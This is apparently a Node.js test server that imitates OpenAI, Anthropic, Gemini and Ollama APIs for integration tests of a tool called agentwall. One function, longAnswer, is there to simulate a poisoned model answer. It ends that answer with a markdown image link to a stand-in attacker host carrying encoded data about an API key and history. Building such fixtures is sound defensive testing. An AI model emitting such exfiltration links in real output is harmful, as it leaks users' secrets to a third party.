#!/usr/bin/env node
// A stand-in for LLM providers (OpenAI, Anthropic, Gemini, Ollama), for agentwall's integration
// tests. Node >= 20 built-ins only.
//
//   node standin.mjs --cert server.crt --key server.key [--port 0] [--host 127.0.0.1]
//                    [--delay-ms 4] [--exit-on-stdin-eof] [--tls12]
//   node standin.mjs --plain [...]
//
// Serves HTTPS on 127.0.0.1 with ALPN h2 and http/1.1 (http2.createSecureServer with
// allowHTTP1); with --plain, plaintext HTTP/1.1 instead (a local model server, like Ollama). Prints on stdout one JSON line {"port": N} once listening, then one JSON line per
// answered request:
//
//   {"method", "path", "http_version": "1.1"|"2.0", "client_port", "server_port", "tag",
//    "tls": "TLSv1.3"|"TLSv1.2"|null (plain),
//    "headers": {subset},
//    "body": parsed request JSON (or null), "status",
//    "answer": {"provider", "operation", "model", "response_model", "output_text",
//               "tool_calls": [{"id", "name", "arguments"}], "finish_reason", "response_id",
//               "usage": {provider's own usage fields} | null, "stream", "encoding"}}
//
// Answers are deterministic functions of the request: the text is
// "Stand-in answer to: <first 40 chars of the last user message>", and when the request
// declares tools and the last user message mentions "weather", the model calls the first
// declared tool with {"location": <city after "weather in">}. Usage numbers derive from the
// request size and the output.
//
// Test knobs (request headers): x-standin-encoding: gzip|br compresses the response body
// (streams through a flushing compressor, so events still arrive one by one);
// x-standin-tag: <text> is echoed as "tag" in the log line; x-standin-answer-bytes: N (OpenAI
// chat only) makes the answer a report of N bytes that ends with a markdown image carrying
// data to another host, streamed in 4 KiB pieces.

import fs from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import zlib from 'node:zlib';
import crypto from 'node:crypto';
import {createRequire} from 'node:module';
import path from 'node:path';
import {fileURLToPath} from 'node:url';

// OpenAI chat usage counted the way OpenAI counts it (o200k_base, 3 tokens of markup per
// message, 1 per name, 3 to prime the reply: OpenAI's published counting rule), with
// js-tiktoken from the test clients' node_modules. The agent's local estimate is measured
// against these figures (test_llm_sdks.py). Without js-tiktoken, figures are synthetic.
let o200k = null;
try {
  const req = createRequire(path.join(path.dirname(fileURLToPath(import.meta.url)),
    '..', 'clients', 'package.json'));
  const {Tiktoken} = req('js-tiktoken/lite');
  o200k = new Tiktoken(req('js-tiktoken/ranks/o200k_base'));
} catch (e) {
  process.stderr.write(`standin: js-tiktoken not available (${e.message}); synthetic usage\n`);
}

function openaiChatUsageLikeOpenAI(messages, text) {
  if (!o200k) return null;
  let prompt = 3;
  for (const m of messages) {
    prompt += 3 + o200k.encode(String(m.role ?? '')).length +
      o200k.encode(contentText(m.content)).length;
    if (m.name) prompt += 1 + o200k.encode(String(m.name)).length;
  }
  return {prompt, completion: o200k.encode(text).length};
}

// ------------------------------------------------------------------------------------------
// command line
// ------------------------------------------------------------------------------------------

function parseArgs(argv) {
  const opt = {port: 0, host: '127.0.0.1', cert: null, key: null, delayMs: 4,
    exitOnStdinEof: false};
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const next = () => {
      if (i + 1 >= argv.length) usage(`${a} needs a value`);
      return argv[++i];
    };
    if (a === '--cert') opt.cert = next();
    else if (a === '--key') opt.key = next();
    else if (a === '--port') opt.port = Number(next());
    else if (a === '--host') opt.host = next();
    else if (a === '--delay-ms') opt.delayMs = Number(next());
    else if (a === '--exit-on-stdin-eof') opt.exitOnStdinEof = true;
    else if (a === '--plain') opt.plain = true;
    else if (a === '--tls12') opt.tls12 = true;
    else usage(`unknown argument ${a}`);
  }
  if (!opt.plain && (!opt.cert || !opt.key)) usage('--cert and --key are required (or --plain)');
  return opt;
}

function usage(msg) {
  process.stderr.write(`standin: ${msg}\nusage: node standin.mjs --cert C --key K|--plain ` +
                       `[--port 0] [--host 127.0.0.1] [--delay-ms 4] [--exit-on-stdin-eof] ` +
                       `[--tls12]\n`);
  process.exit(2);
}

const opt = parseArgs(process.argv.slice(2));

// ------------------------------------------------------------------------------------------
// deterministic content
// ------------------------------------------------------------------------------------------

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function hashHex(s, n = 24) {
  return crypto.createHash('sha256').update(s).digest('hex').slice(0, n);
}

// Text of an OpenAI/Anthropic/Ollama-style content value (string or list of parts).
function contentText(c) {
  if (c == null) return '';
  if (typeof c === 'string') return c;
  if (Array.isArray(c)) {
    return c.map((p) => (typeof p === 'string' ? p
      : (p && (p.text ?? (typeof p.content === 'string' ? p.content : ''))) || '')).join('');
  }
  if (typeof c === 'object' && typeof c.text === 'string') return c.text;
  return '';
}

function lastUserText(messages, userRoles = ['user']) {
  for (let i = (messages || []).length - 1; i >= 0; i--) {
    const m = messages[i];
    if (m && userRoles.includes(m.role ?? 'user')) {
      if (m.parts) return m.parts.map((p) => p.text || '').join('');
      return contentText(m.content);
    }
  }
  return '';
}

function answerText(userText) {
  return `Stand-in answer to: ${[...userText].slice(0, 40).join('')}`;
}

// A long answer (x-standin-answer-bytes) whose last line loads an image from a host that is
// not the provider's, with data in its URL: what a poisoned answer would render.
function longAnswer(bytes) {
  const tail = '\n![chart](https://collect.attacker.test/c.png?d=dXNlciBhcGkga2V5IGFuZCBoaXN0b3J5)';
  const lines = [];
  let size = 0;
  for (let i = 0; size + tail.length < bytes; i++) {
    const line = `Row ${i}: the build server returned ${i % 97} files, all within their quota.\n`;
    lines.push(line);
    size += line.length;
  }
  return (lines.join('') + tail).slice(-bytes);
}

function slices(text, size) {
  const out = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

function weatherArgs(userText) {
  const m = /weather\s+in\s+([A-Z][\p{L}\-]*(?:\s+[A-Z][\p{L}\-]*)*)/u.exec(userText);
  return {location: m ? m[1] : 'Paris'};
}

// The tool the model "calls", or null: the first declared tool, when the last user message
// talks about the weather.
function pickToolCall(toolNames, userText) {
  if (!toolNames.length || !/weather/i.test(userText)) return null;
  const name = toolNames.includes('get_weather') ? 'get_weather' : toolNames[0];
  return {name, args: weatherArgs(userText)};
}

// Splits text into word-ish pieces (each keeps its leading space), at least two when possible.
function pieces(text) {
  const out = text.match(/\s*\S+/g) || [];
  return out.length ? out : (text ? [text] : []);
}

function splitN(s, n) {
  const size = Math.max(1, Math.ceil(s.length / n));
  const out = [];
  for (let i = 0; i < s.length; i += size) out.push(s.slice(i, i + size));
  return out;
}

const inputTokens = (rawBody) => 12 + Math.ceil(rawBody.length / 4);
const outputTokens = (text, toolCall) =>
  3 + pieces(text).length + (toolCall ? 8 + Math.ceil(JSON.stringify(toolCall.args).length / 4) : 0);
const nowSec = () => Math.floor(Date.now() / 1000);
const FIXED_CREATED = 1735689600; // 2025-01-01T00:00:00Z: ids/timestamps stay deterministic

function responseModel(model) {
  if (model === 'gpt-4o-mini') return 'gpt-4o-mini-2024-07-18';
  if (model === 'gpt-4o') return 'gpt-4o-2024-08-06';
  if (/^claude-.*-latest$/.test(model)) return model.replace(/-latest$/, '-20241022');
  return model;
}

const isReasoningModel = (model) => /^(o\d|gpt-5)/.test(model);

// ------------------------------------------------------------------------------------------
// response plumbing: plain, compressed, streamed
// ------------------------------------------------------------------------------------------

// The response is gone (the client reset its HTTP/2 stream, or closed the connection).
const responseGone = (res) => Boolean(res.destroyed || res.stream?.destroyed || res.stream?.closed);

// Wraps res so that writes go through an optional flushing compressor. send(chunk) resolves
// once the chunk was handed to the socket (and flushed through the compressor), or the
// response is gone.
function makeSink(req, res, status, contentType, extraHeaders = {}) {
  const enc = (req.headers['x-standin-encoding'] || '').toLowerCase() || null;
  const headers = {'content-type': contentType, ...extraHeaders};
  let comp = null;
  if (enc === 'gzip') comp = zlib.createGzip();
  else if (enc === 'br') {
    comp = zlib.createBrotliCompress({params: {[zlib.constants.BROTLI_PARAM_QUALITY]: 5}});
  } else if (enc === 'deflate') comp = zlib.createDeflate();
  if (comp) headers['content-encoding'] = enc;
  res.writeHead(status, headers);
  if (comp) comp.pipe(res);
  return {
    encoding: comp ? enc : null,
    async send(chunk) {
      if (comp) {
        comp.write(chunk);
        await new Promise((r) => comp.flush(r));
      } else {
        // A client that stops reading once it has what it wants (Codex resets its HTTP/2
        // stream after response.completed) leaves the write callback uncalled: the close
        // ends the wait too, so the request is still logged.
        await new Promise((r) => {
          if (responseGone(res)) return r();
          const done = () => {
            res.off('close', done);
            r();
          };
          res.once('close', done);
          res.write(chunk, done);
        });
      }
    },
    async end() {
      await new Promise((r) => {
        if (responseGone(res)) return r();
        res.once('finish', r);
        res.once('close', r);
        if (comp) comp.end(); else res.end();
      });
    },
  };
}

async function sendJson(req, res, status, obj) {
  const sink = makeSink(req, res, status, 'application/json');
  await sink.send(JSON.stringify(obj));
  await sink.end();
  return sink.encoding;
}

// SSE / NDJSON: one send per event, a short pause between them so they leave as separate
// writes (and usually separate TLS records).
async function sendStream(req, res, contentType, chunks) {
  const extra = contentType === 'text/event-stream'
    ? {'cache-control': 'no-cache'} : {};
  const sink = makeSink(req, res, 200, contentType, extra);
  for (const c of chunks) {
    await sink.send(c);
    if (opt.delayMs > 0) await sleep(opt.delayMs);
  }
  await sink.end();
  return sink.encoding;
}

const sse = (data, event) => (event ? `event: ${event}\n` : '') + `data: ${JSON.stringify(data)}\n\n`;

// ------------------------------------------------------------------------------------------
// OpenAI
// ------------------------------------------------------------------------------------------

function openaiToolNames(tools) {
  return (tools || []).map((t) => t?.function?.name ?? t?.name).filter(Boolean);
}

async function openaiChat(req, res, body, raw) {
  const model = body.model;
  const rmodel = responseModel(model);
  const messages = body.messages || [];
  const userText = lastUserText(messages);
  const tc = pickToolCall(openaiToolNames(body.tools), userText);
  const longBytes = parseInt(req.headers['x-standin-answer-bytes'] || '0', 10) || 0;
  const text = tc ? '' : (longBytes > 0 ? longAnswer(longBytes) : answerText(userText));
  const id = `chatcmpl-${hashHex(raw, 29)}`;
  const callId = `call_${hashHex('call' + raw, 24)}`;
  const finish = tc ? 'tool_calls' : 'stop';
  // Counted like OpenAI for plain conversations; synthetic when tools are declared (their
  // rendering into the prompt is not published).
  const like = !body.tools && /^(gpt-4o|gpt-4\.1|gpt-5|o\d)/.test(model)
    ? openaiChatUsageLikeOpenAI(messages, text) : null;
  const prompt = like ? like.prompt : inputTokens(raw);
  const completion = like ? like.completion : outputTokens(text, tc);
  const usage = {
    prompt_tokens: prompt,
    completion_tokens: completion,
    total_tokens: prompt + completion,
    prompt_tokens_details: {cached_tokens: Math.floor(prompt / 4), audio_tokens: 0},
    completion_tokens_details: {
      reasoning_tokens: isReasoningModel(model) ? Math.floor(completion / 2) : 0,
      audio_tokens: 0, accepted_prediction_tokens: 0, rejected_prediction_tokens: 0,
    },
  };
  const args = tc ? JSON.stringify(tc.args) : null;
  const answer = {
    provider: 'openai', operation: 'chat', model, response_model: rmodel, output_text: text,
    tool_calls: tc ? [{id: callId, name: tc.name, arguments: args}] : [],
    finish_reason: finish, response_id: id, usage: null, stream: !!body.stream,
  };
  const sysfp = 'fp_standin01';
  if (!body.stream) {
    const message = {role: 'assistant', content: tc ? null : text, refusal: null, annotations: []};
    if (tc) {
      message.tool_calls = [{id: callId, type: 'function', function: {name: tc.name, arguments: args}}];
    }
    answer.usage = usage;
    answer.encoding = await sendJson(req, res, 200, {
      id, object: 'chat.completion', created: FIXED_CREATED, model: rmodel,
      choices: [{index: 0, message, logprobs: null, finish_reason: finish}],
      usage, service_tier: 'default', system_fingerprint: sysfp,
    });
    return answer;
  }
  const includeUsage = !!(body.stream_options && body.stream_options.include_usage);
  // What the usage chunk would have said: the reference for the agent's estimate.
  if (!includeUsage) answer.reference_usage = usage;
  const chunk = (delta, finishReason = null) => {
    const c = {
      id, object: 'chat.completion.chunk', created: FIXED_CREATED, model: rmodel,
      service_tier: 'default', system_fingerprint: sysfp,
      choices: [{index: 0, delta, logprobs: null, finish_reason: finishReason}],
    };
    if (includeUsage) c.usage = null;
    return sse(c);
  };
  const out = [];
  if (tc) {
    out.push(chunk({role: 'assistant', content: null, tool_calls: [{
      index: 0, id: callId, type: 'function', function: {name: tc.name, arguments: ''}}],
    refusal: null}));
    for (const frag of splitN(args, 4)) {
      out.push(chunk({tool_calls: [{index: 0, function: {arguments: frag}}]}));
    }
  } else {
    out.push(chunk({role: 'assistant', content: '', refusal: null}));
    for (const p of (longBytes > 0 ? slices(text, 4096) : pieces(text))) {
      out.push(chunk({content: p}));
    }
  }
  out.push(chunk({}, finish));
  if (includeUsage) {
    out.push(sse({
      id, object: 'chat.completion.chunk', created: FIXED_CREATED, model: rmodel,
      service_tier: 'default', system_fingerprint: sysfp, choices: [], usage,
    }));
    answer.usage = usage;
  }
  out.push('data: [DONE]\n\n');
  answer.encoding = await sendStream(req, res, 'text/event-stream', out);
  return answer;
}

function responsesInputMessages(input) {
  if (typeof input === 'string') return [{role: 'user', content: input}];
  return (input || []).filter((m) => m && (m.type === undefined || m.type === 'message'));
}

async function openaiResponses(req, res, body, raw) {
  const model = body.model;
  const rmodel = responseModel(model);
  const userText = lastUserText(responsesInputMessages(body.input));
  const tc = pickToolCall(openaiToolNames(body.tools), userText);
  const text = tc ? '' : answerText(userText);
  const id = `resp_${hashHex(raw, 48)}`;
  const msgId = `msg_${hashHex('msg' + raw, 48)}`;
  const fcId = `fc_${hashHex('fc' + raw, 48)}`;
  const callId = `call_${hashHex('call' + raw, 24)}`;
  const args = tc ? JSON.stringify(tc.args) : null;
  const prompt = inputTokens(raw);
  const completion = outputTokens(text, tc);
  const usage = {
    input_tokens: prompt,
    input_tokens_details: {cached_tokens: Math.floor(prompt / 4)},
    output_tokens: completion,
    output_tokens_details: {reasoning_tokens: isReasoningModel(model) ? Math.floor(completion / 2) : 0},
    total_tokens: prompt + completion,
  };
  const base = (status, output, u) => ({
    id, object: 'response', created_at: FIXED_CREATED, status, background: false, error: null,
    incomplete_details: null, instructions: body.instructions ?? null,
    max_output_tokens: body.max_output_tokens ?? null, model: rmodel, output,
    parallel_tool_calls: true, previous_response_id: null,
    reasoning: {effort: null, summary: null}, service_tier: 'default', store: true,
    temperature: 1.0, text: {format: {type: 'text'}, verbosity: 'medium'},
    tool_choice: body.tool_choice ?? 'auto', tools: body.tools ?? [], top_p: 1.0,
    truncation: 'disabled', usage: u, user: null, metadata: {},
  });
  const msgItem = (status, t) => ({
    id: msgId, type: 'message', status, role: 'assistant',
    content: t === null ? [] : [{type: 'output_text', annotations: [], logprobs: [], text: t}],
  });
  const fcItem = (status, a) => ({
    id: fcId, type: 'function_call', status, arguments: a, call_id: callId, name: tc.name,
  });
  const finalOutput = tc ? [fcItem('completed', args)] : [msgItem('completed', text)];
  const answer = {
    provider: 'openai', operation: 'responses', model, response_model: rmodel, output_text: text,
    tool_calls: tc ? [{id: callId, name: tc.name, arguments: args}] : [],
    finish_reason: 'completed', response_id: id, usage, stream: !!body.stream,
  };
  if (!body.stream) {
    answer.encoding = await sendJson(req, res, 200, base('completed', finalOutput, usage));
    return answer;
  }
  let seq = 0;
  const ev = (type, fields) => sse({type, sequence_number: seq++, ...fields}, type);
  const out = [
    ev('response.created', {response: base('in_progress', [], null)}),
    ev('response.in_progress', {response: base('in_progress', [], null)}),
  ];
  if (tc) {
    out.push(ev('response.output_item.added', {output_index: 0, item: fcItem('in_progress', '')}));
    for (const frag of splitN(args, 4)) {
      out.push(ev('response.function_call_arguments.delta',
        {item_id: fcId, output_index: 0, delta: frag}));
    }
    out.push(ev('response.function_call_arguments.done',
      {item_id: fcId, output_index: 0, arguments: args}));
    out.push(ev('response.output_item.done', {output_index: 0, item: fcItem('completed', args)}));
  } else {
    const part = (t) => ({type: 'output_text', annotations: [], logprobs: [], text: t});
    const loc = {item_id: msgId, output_index: 0, content_index: 0};
    out.push(ev('response.output_item.added', {output_index: 0, item: msgItem('in_progress', null)}));
    out.push(ev('response.content_part.added', {...loc, part: part('')}));
    for (const p of pieces(text)) {
      out.push(ev('response.output_text.delta', {...loc, delta: p, logprobs: []}));
    }
    out.push(ev('response.output_text.done', {...loc, text, logprobs: []}));
    out.push(ev('response.content_part.done', {...loc, part: part(text)}));
    out.push(ev('response.output_item.done', {output_index: 0, item: msgItem('completed', text)}));
  }
  out.push(ev('response.completed', {response: base('completed', finalOutput, usage)}));
  answer.encoding = await sendStream(req, res, 'text/event-stream', out);
  return answer;
}

function embeddingVector(text, dims) {
  const v = [];
  let h = crypto.createHash('sha256').update(text).digest();
  while (v.length < dims) {
    for (let i = 0; i + 2 <= h.length && v.length < dims; i += 2) {
      v.push(Math.round(((h.readUInt16LE(i) / 65535) * 2 - 1) * 1e6) / 1e6);
    }
    h = crypto.createHash('sha256').update(h).digest();
  }
  return v;
}

async function openaiEmbeddings(req, res, body, raw) {
  const inputs = Array.isArray(body.input) ? body.input : [body.input];
  const dims = body.dimensions || 16;
  const b64 = body.encoding_format === 'base64';
  const data = inputs.map((inp, index) => {
    const vec = embeddingVector(typeof inp === 'string' ? inp : JSON.stringify(inp), dims);
    let embedding = vec;
    if (b64) {
      const buf = Buffer.alloc(4 * vec.length);
      vec.forEach((x, i) => buf.writeFloatLE(x, 4 * i));
      embedding = buf.toString('base64');
    }
    return {object: 'embedding', index, embedding};
  });
  const prompt = inputs.reduce((n, s) => n + 1 + Math.ceil(String(s).length / 4), 0);
  const usage = {prompt_tokens: prompt, total_tokens: prompt};
  const encoding = await sendJson(req, res, 200,
    {object: 'list', data, model: body.model, usage});
  return {
    provider: 'openai', operation: 'embeddings', model: body.model, response_model: body.model,
    output_text: '', tool_calls: [], finish_reason: null, response_id: null, usage,
    stream: false, encoding, embedding_inputs: inputs.length, dimensions: dims,
    encoding_format: body.encoding_format ?? 'float',
  };
}

// ------------------------------------------------------------------------------------------
// Anthropic
// ------------------------------------------------------------------------------------------

async function anthropicMessages(req, res, body, raw) {
  const model = body.model;
  const rmodel = responseModel(model);
  const userText = lastUserText(body.messages);
  const tc = pickToolCall((body.tools || []).map((t) => t.name).filter(Boolean), userText);
  // With a tool call Claude usually says something first; the text block stays.
  const text = tc ? `I'll check the weather in ${tc.args.location} for you.` : answerText(userText);
  const id = `msg_${hashHex(raw, 24)}`;
  const toolId = `toolu_${hashHex('toolu' + raw, 24)}`;
  const stop = tc ? 'tool_use' : 'end_turn';
  const inTok = inputTokens(raw);
  const outTok = outputTokens(text, tc);
  const cacheRead = 1024 + (raw.length % 97);
  const cacheWrite = 256 + (raw.length % 31);
  const usage = {
    input_tokens: inTok, cache_creation_input_tokens: cacheWrite,
    cache_read_input_tokens: cacheRead, output_tokens: outTok, service_tier: 'standard',
  };
  const args = tc ? JSON.stringify(tc.args) : null;
  const answer = {
    provider: 'anthropic', operation: 'chat', model, response_model: rmodel, output_text: text,
    tool_calls: tc ? [{id: toolId, name: tc.name, arguments: args}] : [],
    finish_reason: stop, response_id: id, usage, stream: !!body.stream,
  };
  const headers = {'request-id': `req_${hashHex('req' + raw, 24)}`};
  if (!body.stream) {
    const content = [{type: 'text', text}];
    if (tc) content.push({type: 'tool_use', id: toolId, name: tc.name, input: tc.args});
    res.setHeader('request-id', headers['request-id']);
    answer.encoding = await sendJson(req, res, 200, {
      id, type: 'message', role: 'assistant', model: rmodel, content,
      stop_reason: stop, stop_sequence: null, usage,
    });
    return answer;
  }
  const out = [];
  const ev = (type, fields) => sse({type, ...fields}, type);
  out.push(ev('message_start', {message: {
    id, type: 'message', role: 'assistant', model: rmodel, content: [], stop_reason: null,
    stop_sequence: null, usage: {...usage, output_tokens: 1},
  }}));
  out.push(ev('content_block_start', {index: 0, content_block: {type: 'text', text: ''}}));
  out.push(ev('ping', {}));
  for (const p of pieces(text)) {
    out.push(ev('content_block_delta', {index: 0, delta: {type: 'text_delta', text: p}}));
  }
  out.push(ev('content_block_stop', {index: 0}));
  if (tc) {
    out.push(ev('content_block_start', {index: 1, content_block: {
      type: 'tool_use', id: toolId, name: tc.name, input: {}}}));
    out.push(ev('content_block_delta', {index: 1, delta: {type: 'input_json_delta', partial_json: ''}}));
    for (const frag of splitN(args, 4)) {
      out.push(ev('content_block_delta', {index: 1, delta: {type: 'input_json_delta', partial_json: frag}}));
    }
    out.push(ev('content_block_stop', {index: 1}));
  }
  out.push(ev('message_delta', {delta: {stop_reason: stop, stop_sequence: null},
    usage: {output_tokens: outTok}}));
  out.push(ev('message_stop', {}));
  res.setHeader('request-id', headers['request-id']);
  answer.encoding = await sendStream(req, res, 'text/event-stream', out);
  return answer;
}

// ------------------------------------------------------------------------------------------
// Gemini
// ------------------------------------------------------------------------------------------

async function gemini(req, res, body, raw, model, method, query) {
  const contents = body.contents || [];
  const userText = lastUserText(contents);
  const toolNames = [];
  for (const t of body.tools || []) {
    for (const f of t.functionDeclarations || t.function_declarations || []) toolNames.push(f.name);
  }
  const tc = pickToolCall(toolNames, userText);
  const text = tc ? '' : answerText(userText);
  const responseId = hashHex(raw, 22);
  const prompt = inputTokens(raw);
  const cand = outputTokens(text, tc);
  const thoughts = /2\.5|thinking/.test(model) ? 7 + (raw.length % 13) : 0;
  const usage = {
    promptTokenCount: prompt, candidatesTokenCount: cand,
    totalTokenCount: prompt + cand + thoughts,
    promptTokensDetails: [{modality: 'TEXT', tokenCount: prompt}],
  };
  if (thoughts) usage.thoughtsTokenCount = thoughts;
  const stream = method === 'streamGenerateContent';
  const answer = {
    provider: 'gemini', operation: 'chat', model, response_model: model, output_text: text,
    tool_calls: tc ? [{id: null, name: tc.name, arguments: JSON.stringify(tc.args)}] : [],
    finish_reason: 'STOP', response_id: responseId, usage, stream,
  };
  const resp = (parts, finish, u) => {
    const c = {content: {parts, role: 'model'}, index: 0};
    if (finish) c.finishReason = finish;
    const r = {candidates: [c]};
    if (u) r.usageMetadata = u;
    r.modelVersion = model;
    r.responseId = responseId;
    return r;
  };
  if (!stream) {
    const parts = tc ? [{functionCall: {name: tc.name, args: tc.args}}] : [{text}];
    answer.encoding = await sendJson(req, res, 200, resp(parts, 'STOP', usage));
    return answer;
  }
  const partial = {promptTokenCount: prompt, totalTokenCount: prompt,
    promptTokensDetails: usage.promptTokensDetails};
  const data = (obj) => `data: ${JSON.stringify(obj)}\r\n\r\n`;
  const out = [];
  if (tc) {
    out.push(data(resp([{functionCall: {name: tc.name, args: tc.args}}], 'STOP', usage)));
  } else {
    const ps = pieces(text);
    // Gemini streams bigger chunks than the others: three words per event.
    const groups = [];
    for (let i = 0; i < ps.length; i += 3) groups.push(ps.slice(i, i + 3).join(''));
    groups.forEach((g, i) => {
      const last = i === groups.length - 1;
      out.push(data(resp([{text: g}], last ? 'STOP' : null, last ? usage : partial)));
    });
  }
  if (query.get('alt') !== 'sse') {
    // Without alt=sse Gemini streams a JSON array; the SDKs always ask for SSE.
    const arr = out.map((d) => d.slice(6).trim());
    answer.encoding = await sendStream(req, res, 'application/json',
      ['[' + arr.join(',\r\n') + ']']);
    return answer;
  }
  answer.encoding = await sendStream(req, res, 'text/event-stream', out);
  return answer;
}

// ------------------------------------------------------------------------------------------
// Ollama
// ------------------------------------------------------------------------------------------

function ollamaTimes(prompt, evalCount) {
  return {
    total_duration: 1000000 * (200 + prompt + 20 * evalCount),
    load_duration: 12345678,
    prompt_eval_count: prompt,
    prompt_eval_duration: 1000000 * (20 + prompt),
    eval_count: evalCount,
    eval_duration: 20000000 * evalCount,
  };
}

async function ollama(req, res, body, raw, op) {
  const model = body.model;
  const stream = body.stream !== false; // Ollama streams unless told otherwise
  const userText = op === 'chat' ? lastUserText(body.messages) : String(body.prompt ?? '');
  const tc = op === 'chat'
    ? pickToolCall(openaiToolNames(body.tools), userText) : null;
  const text = tc ? '' : answerText(userText);
  const prompt = inputTokens(raw);
  const evalCount = outputTokens(text, tc);
  const times = ollamaTimes(prompt, evalCount);
  const createdAt = new Date(FIXED_CREATED * 1000).toISOString();
  const usage = {prompt_eval_count: prompt, eval_count: evalCount};
  const answer = {
    provider: 'ollama', operation: op, model, response_model: model, output_text: text,
    tool_calls: tc ? [{id: null, name: tc.name, arguments: JSON.stringify(tc.args)}] : [],
    finish_reason: 'stop', response_id: null, usage, stream,
  };
  const toolCalls = tc ? [{function: {name: tc.name, arguments: tc.args}}] : undefined;
  const line = (piece, done) => {
    const o = {model, created_at: createdAt};
    if (op === 'chat') {
      o.message = {role: 'assistant', content: piece};
      if (toolCalls && (done ? !stream : piece === null)) o.message.tool_calls = toolCalls;
      if (piece === null) o.message.content = '';
    } else {
      o.response = piece ?? '';
    }
    o.done = done;
    if (done) {
      o.done_reason = 'stop';
      if (op === 'generate') o.context = [128006, 9125, 128007, 271];
      Object.assign(o, times);
    }
    return o;
  };
  if (!stream) {
    answer.encoding = await sendJson(req, res, 200, line(text, true));
    return answer;
  }
  const out = [];
  if (tc) out.push(JSON.stringify(line(null, false)) + '\n');
  for (const p of pieces(text)) out.push(JSON.stringify(line(p, false)) + '\n');
  out.push(JSON.stringify(line('', true)) + '\n');
  answer.encoding = await sendStream(req, res, 'application/x-ndjson', out);
  return answer;
}

// ------------------------------------------------------------------------------------------
// routing
// ------------------------------------------------------------------------------------------

const LOGGED_HEADERS = ['content-type', 'accept', 'accept-encoding', 'content-encoding',
  'user-agent', 'authorization', 'x-api-key', 'x-goog-api-key', 'anthropic-version',
  'x-stainless-lang', 'x-stainless-package-version', 'x-stainless-runtime-version',
  'x-goog-api-client', 'x-standin-encoding', 'x-standin-tag', 'host', ':authority',
  'content-length', 'transfer-encoding'];

function openaiError(message, type, code) {
  return {error: {message, type, param: null, code}};
}

async function route(req, res, rawBuf) {
  const url = new URL(req.url, 'https://standin.invalid');
  const path = url.pathname;
  const raw = rawBuf.toString('utf8');
  let body = null;
  if (raw.length) {
    try {
      body = JSON.parse(raw);
    } catch (e) {
      body = undefined;
    }
  }
  const post = req.method === 'POST';
  const log = {status: 200, body: body === undefined ? null : body};
  if (post && body === undefined) {
    log.status = 400;
    const enc = await sendJson(req, res, 400, openaiError(
      'We could not parse the JSON body of your request.', 'invalid_request_error', null));
    log.answer = {error: 'invalid json', encoding: enc};
    return log;
  }
  let m;
  if (post && path === '/v1/chat/completions') log.answer = await openaiChat(req, res, body, raw);
  else if (post && path === '/v1/responses') log.answer = await openaiResponses(req, res, body, raw);
  else if (post && path === '/v1/embeddings') log.answer = await openaiEmbeddings(req, res, body, raw);
  else if (post && path === '/v1/messages') log.answer = await anthropicMessages(req, res, body, raw);
  else if (post && (m = /^\/(v1beta|v1|v1alpha)\/models\/([^/:]+):(generateContent|streamGenerateContent)$/.exec(path))) {
    log.answer = await gemini(req, res, body, raw, decodeURIComponent(m[2]), m[3], url.searchParams);
  } else if (post && path === '/api/chat') log.answer = await ollama(req, res, body, raw, 'chat');
  else if (post && path === '/api/generate') log.answer = await ollama(req, res, body, raw, 'generate');
  else {
    log.status = 404;
    const enc = await sendJson(req, res, 404, openaiError(
      `Unknown request URL: ${req.method} ${path}. Please check the URL for typos, or see the ` +
      `docs at https://platform.openai.com/docs/api-reference/.`, 'invalid_request_error',
      'unknown_url'));
    log.answer = {error: 'unknown url', encoding: enc};
  }
  return log;
}

function emit(obj) {
  process.stdout.write(JSON.stringify(obj) + '\n');
}

const server = opt.plain ? http.createServer() : http2.createSecureServer({
  cert: fs.readFileSync(opt.cert), key: fs.readFileSync(opt.key), allowHTTP1: true,
  ...(opt.tls12 ? {maxVersion: 'TLSv1.2'} : {}),
});

server.on('request', (req, res) => {
  const parts = [];
  req.on('data', (d) => parts.push(d));
  req.on('end', async () => {
    const t0 = process.hrtime.bigint();
    const headers = {};
    for (const h of LOGGED_HEADERS) if (req.headers[h] !== undefined) headers[h] = req.headers[h];
    const entry = {
      method: req.method, path: req.url, http_version: req.httpVersion,
      client_port: req.socket?.remotePort ?? null, server_port: req.socket?.localPort ?? null,
      tls: (req.stream?.session?.socket ?? req.socket)?.getProtocol?.() ?? null,
      tag: req.headers['x-standin-tag'] ?? null,
      headers,
    };
    try {
      const log = await route(req, res, Buffer.concat(parts));
      Object.assign(entry, log);
    } catch (e) {
      entry.status = 500;
      entry.error = String(e && e.stack || e);
      process.stderr.write(`standin: ${entry.error}\n`);
      try {
        if (!res.headersSent) res.writeHead(500, {'content-type': 'application/json'});
        res.end(JSON.stringify(openaiError('stand-in failure', 'server_error', null)));
      } catch (_) { /* connection gone */ }
    }
    entry.duration_ms = Number(process.hrtime.bigint() - t0) / 1e6;
    emit(entry);
  });
});

server.on('sessionError', (e) => process.stderr.write(`standin: session error: ${e}\n`));
server.on('tlsClientError', (e) => process.stderr.write(`standin: tls error: ${e}\n`));

server.listen(opt.port, opt.host, () => emit({port: server.address().port}));

function shutdown() {
  server.close();
  process.exit(0);
}
process.on('SIGINT', shutdown);
process.on('SIGTERM', shutdown);
// --exit-on-stdin-eof: when the test process goes away, our stdin (a pipe) closes: exit with it.
if (opt.exitOnStdinEof) {
  process.stdin.on('end', shutdown);
  process.stdin.on('error', shutdown);
  process.stdin.resume();
}
